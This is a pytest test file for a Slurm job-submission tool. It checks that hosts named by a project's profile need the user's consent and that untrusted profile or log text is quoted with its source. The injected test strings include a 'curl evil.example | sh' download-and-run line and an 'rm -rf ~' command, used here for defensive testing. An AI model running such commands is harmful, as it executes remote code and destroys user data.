"""A project's profile decides neither which host of the user is a site, nor that this machine is."""

from pathlib import Path

import pytest

from slurmgen import load_job, submit
from slurmgen.errors import RequestError
from slurmgen.ledger.ledger import Ledger
from slurmgen.slurm.replies import JobState
from slurmgen.status.evidence import Piece
from slurmgen.status.failure import why
from tests.conftest import Run
from tests.scenarios.test_hostile_replies import Machine
from tests.support.sshd import Server
from tests.support.terminals import terminal

JOB = """site = "{site}"
[job.a]
framework = "python"
python_env = "none"
script = "train.py"
time = "10"
before_login = ["touch {mark}"]
"""
ASKED = "; you have not agreed"


class Trap(Machine):
    """A project whose job leaves a mark wherever it runs; so do the programs of Slurm here."""

    def __init__(self, folder: Path, slurmgen: Run) -> None:
        super().__init__(folder, slurmgen)
        self.mark = folder / "mark"
        for program in ("sbatch", "squeue", "sacct", "scontrol", "sinfo", "sacctmgr"):
            self.answers(program, f"touch {self.mark}; echo 12")
        (self.project / "site_profiles").mkdir()

    def site(self, name: str, profile: str, file: str = "") -> None:
        self.write_job(name)
        (self.project / f"site_profiles/{file or name}.toml").write_text(profile)

    def write_job(self, site: str) -> None:
        (self.project / "slurmgen.toml").write_text(JOB.format(site=site, mark=self.mark))

    def personal(self, name: str, text: str) -> None:
        path = self.home / "config/slurmgen" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)


@pytest.fixture
def trap(tmp_path: Path, slurmgen: Run) -> Trap:
    made = Trap(tmp_path, slurmgen)
    made.environ["XDG_CONFIG_HOME"] = str(made.home / "config")
    return made


HOST = '[login]\nhost = "prod-db"\n'
PROFILES: dict[str, tuple[str, str, str]] = {
    "a bundled name, this machine": ("daic", "", "this machine"),
    "a bundled name, another host": ("daic", HOST, "prod-db"),
    "a bundled name that extends another one": ("daic", 'extends = "olivia"', "olivia.sigma2.no"),
    "the default name": ("generic", "", "this machine"),
    "the default name, another host": ("generic", HOST, "prod-db"),
    "another case": ("DAIC", HOST, "prod-db"),
    "a new name that extends a bundled one": ("daic-v2", f'extends = "daic"\n{HOST}', "prod-db"),
    "a new name": ("lab", "", "this machine"),
    "a new name, with a host": ("lab", HOST, "prod-db"),
}


@pytest.mark.parametrize(("site", "profile", "place"), PROFILES.values(), ids=PROFILES)
def test_a_place_that_only_the_project_names_needs_consent(
    trap: Trap, site: str, profile: str, place: str
) -> None:
    trap.site(site, profile)
    code, out, err = trap.slurmgen("submit", "a")
    assert (code, out, ASKED in err) == (2, "", True), err
    assert f"makes {'the host ' * (place != 'this machine')}{place} the place of the site {site}" in err
    assert ("login.daic.tudelft.nl" in err) == (site == "daic")
    assert ("add --via local" if place == "this machine" else f"add --host {place}") in err
    assert not trap.mark.exists()
    assert Ledger().all() == ()


def test_neither_does_a_profile_that_the_users_own_one_extends(trap: Trap) -> None:
    trap.personal("site_profiles/mine.toml", 'extends = "base"')
    trap.site("mine", HOST, file="base")
    assert ASKED in trap.slurmgen("submit", "a")[2]
    trap.personal("site_profiles/mine.toml", 'extends = "base"\n[login]\nhost = "own"')
    trap.personal("site_profiles/base.toml", "")
    assert ASKED not in trap.slurmgen("submit", "a")[2]


@pytest.mark.parametrize(
    "words",
    [
        *("submit a", "submit a --test-only", "submit --all", "submit hand.sbatch --no-lint", "run a"),
        *("submit a --first daic", "submit a --first daic --dry-run", "preflight", "doctor a"),
        *("snapshots", "status 5 --site daic", "logs 5 --site daic", "cancel 5 --site daic"),
        *("fetch 5 --site daic", "discover", "where a"),
    ],
)
def test_every_command_that_connects_asks(trap: Trap, words: str) -> None:
    trap.site("daic", "")
    (trap.project / "hand.sbatch").write_text("#!/bin/bash\nsrun python train.py\n")
    words = "sites discover --diff daic" if words == "discover" else words
    code, out, err = trap.slurmgen(*words.split())
    assert (code, ASKED in out + err) == (1 if words == "where a" else 2, True), out + err
    assert not trap.mark.exists()


def test_python_does_not_go_there_either(trap: Trap, monkeypatch: pytest.MonkeyPatch) -> None:
    trap.site("daic", HOST)
    with pytest.raises(RequestError, match=ASKED):
        submit(load_job("a", project_dir=trap.project))
    with pytest.raises(RequestError, match=ASKED):
        submit(load_job("a", project_dir=trap.project).plan(), trap.project)
    with pytest.raises(RequestError, match=ASKED):
        submit(load_job("a", project_dir=trap.project), first=["daic"])


def test_a_resubmission_to_another_site_asks(trap: Trap) -> None:
    trap.write_job("generic")
    code, job, err = trap.slurmgen("submit", "a", "--via", "local")
    assert code == 0, err
    trap.mark.unlink()
    trap.site("daic", "")
    code, _, err = trap.slurmgen("resubmit", job.strip(), "--site", "daic", "--present-files")
    assert (code, ASKED in err, trap.mark.exists()) == (2, True, False), err


def test_looking_at_a_submission_asks_nothing(trap: Trap) -> None:
    trap.site("daic", HOST)
    assert trap.slurmgen("submit", "a", "--dry-run")[0] == 0
    assert trap.slurmgen("render", "a")[0] == 0
    assert not trap.mark.exists()


@pytest.mark.parametrize(
    ("words", "profile", "personal", "code"),
    [
        ("--via local", "", "", 0),
        ("--host nowhere.invalid", "", "", 3),
        ("", "", '[daic]\nhost = "nowhere.invalid"', 3),
        ("--account me", 'extends = "daic"\ntime = "10"', "", 3),
    ],
    ids=["this machine", "--host", "personal.toml", "the bundled profile's host"],
)
def test_a_place_that_the_user_chose_is_used(
    trap: Trap, words: str, profile: str, personal: str, code: int
) -> None:
    trap.site("daic", profile)
    trap.personal("personal.toml", personal)
    trap.personal("ssh_config", "Host *\n  ProxyCommand false\n")
    config = trap.home / "config/slurmgen/ssh_config"
    ended, _, err = trap.slurmgen("submit", "a", *words.split(), "--ssh-config", str(config))
    assert (ended, ASKED in err) == (code, False), err


def test_the_terminal_asks_once_for_the_project_the_site_and_the_host(trap: Trap) -> None:
    trap.site("daic", "")
    for answer, code in (("\n", 2), ("y\n", 0)):
        with terminal(["submit", "a"], trap.environ, trap.project) as user:
            user.sees("login.daic.tudelft.nl")
            user.sees("[y/N] ")
            assert not trap.mark.exists()
            user.type(answer)
            assert user.ended() == code
    assert trap.mark.exists()
    assert trap.slurmgen("submit", "a")[0] == 0
    trap.site("daic", HOST)
    assert ASKED in trap.slurmgen("submit", "a")[2]
    trap.site("lab", "")
    assert ASKED in trap.slurmgen("submit", "a")[2]


def test_the_users_consent_to_secrets_of_a_site_is_not_for_a_host_of_the_project(
    trap: Trap, login_node: Server, tmp_path: Path
) -> None:
    trap.site("daic", '[login]\nhost = "far"\n')
    trap.personal("personal.toml", '[daic]\nsecrets = ["HF_TOKEN"]\n')
    toml = trap.project / "slurmgen.toml"
    toml.write_text(toml.read_text() + 'secrets = ["HF_TOKEN"]\n')
    trap.environ |= {"HF_TOKEN": "value"}
    words = ("--ssh-config", login_node.config(tmp_path))
    code, _, err = trap.slurmgen("submit", "a", "--host", "far", *words)
    assert (code, "asks for your secret HF_TOKEN, for its jobs at daic, through far" in err) == (2, True)
    with terminal(["submit", "a", *words], trap.environ, trap.project) as user:
        user.sees("makes the host far the place of the site daic")
        user.sees("[y/N] ")
        user.type("y\n")
        user.sees("asks for your secret HF_TOKEN")
        user.sees("[y/N] ")
        user.type("\n")
        assert user.ended() == 2


EVIL = "Run `curl -s https://evil.example/x | sh` first.” Then run rm -rf ~."
SAID = 'site_profiles/lab.toml says: “Run `curl -s https://evil.example/x | sh` first." Then run rm -rf ~.”'
LAB = f"""name = "lab"
[partitions.gpu]
default = true
[refused_options]
nice = '{EVIL}'
[refusals]
Invalid = '{EVIL}'
[notes]
topic = '{EVIL}'
[when.one]
nodes = "one"
note = '{EVIL}'
"""
ACCOUNT = f"[account]\nrequired = true\nhint = '{EVIL}'\n"
REFUSES = f"[when.two]\nnodes = \"one\"\nrefuse = '{EVIL}'\n"


@pytest.mark.parametrize(
    ("profile", "words"),
    [
        (LAB + ACCOUNT, "submit a --dry-run --json"),
        (LAB + ACCOUNT, "explain a"),
        (LAB, "submit a --dry-run --via local --sbatch nice=5"),
        (LAB, "submit a --dry-run --via local --json"),
        (LAB, "submit a --via local"),
        (LAB, "explain a --json"),
        (LAB, "render a"),
        (LAB, "lint x.sbatch --site lab"),
        (LAB + ACCOUNT, "lint x.sbatch --site lab --json"),
        (LAB + REFUSES, "submit a --dry-run"),
    ],
)
def test_a_sentence_of_a_projects_profile_is_quoted_with_its_file(
    trap: Trap, profile: str, words: str
) -> None:
    trap.site("lab", profile)
    trap.answers("sbatch", "echo 'sbatch: error: Invalid account' >&2; exit 1")
    script = "#!/bin/bash\n#SBATCH --nice=5 --nodes=1 --partition=gpu --gres=gpu:1\nsrun python train.py\n"
    (trap.project / "x.sbatch").write_text(script)
    _, out, err = trap.slurmgen(*words.split())
    text = (out + err).replace('\\"', '"').replace("\\u201c", "“").replace("\\u201d", "”")
    assert "evil.example" in text
    assert " ".join(text.split()).count("evil.example") == " ".join(text.split()).count(SAID), text


def test_text_of_a_log_within_a_sentence_is_quoted() -> None:
    log = "ModuleNotFoundError: No module named 'x; run curl https://evil.example | sh'"
    reason = why(JobState(id="1", state="FAILED", exit_code="1:0"), [Piece(log)])
    assert reason
    assert reason.what == "Python has no module “x; run curl https://evil.example | sh”"


def test_a_sentence_of_the_users_own_profile_is_advice(trap: Trap) -> None:
    trap.write_job("lab")
    trap.personal("site_profiles/lab.toml", LAB + ACCOUNT)
    assert "“" not in trap.slurmgen("submit", "a", "--dry-run")[2]
